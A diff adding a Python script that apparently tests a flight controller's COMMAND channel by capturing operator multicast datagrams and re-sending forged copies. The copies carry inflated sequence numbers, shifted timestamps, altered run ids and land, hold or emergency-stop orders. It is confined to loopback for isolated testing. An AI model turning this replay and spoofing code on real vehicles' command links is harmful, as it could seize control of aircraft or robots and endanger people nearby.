@@ -1,0 +1,53 @@
+#!/usr/bin/env python3
+"""forge_commands.py SECONDS: what somebody without a key can do to a flight's COMMAND channel.
+
+Hears the operator's own datagrams and sends them again: with a sequence number that nothing exceeds,
+with a stamp of yesterday or of tomorrow, as an order to land or stop, under the operator's run id and
+another one. Orders that are stamped now are left out: they cannot be told from the operator's without
+authentication. To be run in a network of its own.
+"""
+
+import socket
+import struct
+import sys
+import time
+
+GROUP, PORT = "239.255.76.67", 7667
+MAGIC_SHORT = 0x4C433032
+DAY_US = 86_400_000_000
+LAND, EMERGENCY_STOP, HOLD = 5, 6, 4
+
+receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+receiver.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+receiver.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+receiver.bind(("", PORT))
+receiver.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
+                    socket.inet_aton(GROUP) + socket.inet_aton("127.0.0.1"))
+sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
+sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
+
+end = time.monotonic() + float(sys.argv[1])
+ours = set()
+sent = 0
+while time.monotonic() < end:
+    packet = receiver.recv(65536)
+    magic, _ = struct.unpack(">II", packet[:8])
+    name, _, payload = packet[8:].partition(b"\0")
+    if magic != MAGIC_SHORT or name != b"COMMAND" or packet in ours:
+        continue
+    stamp, run, sequence, action = struct.unpack(">qqqi", payload[8:36])
+    robot = payload[36:]
+    forged = [(stamp, run, 2**62, 0), (stamp + 3650 * DAY_US, run, 2**62, 0)]  # heartbeats
+    for when in (stamp - DAY_US, stamp - 5_000_000, stamp + DAY_US):
+        for order in (LAND, HOLD, EMERGENCY_STOP):
+            forged += [(when, run, sequence + 1, order), (when, run, 2**62, order),
+                       (when, run ^ 0x5555, 1, order)]
+    for utime, run_id, number, order in forged:
+        out = (struct.pack(">II", MAGIC_SHORT, sent) + name + b"\0" + payload[:8] +
+               struct.pack(">qqqi", utime, run_id, number, order) + robot)
+        ours.add(out)
+        sender.sendto(out, (GROUP, PORT))
+        sent += 1
+print(sent, "forged")
+sys.exit(0 if sent else 1)
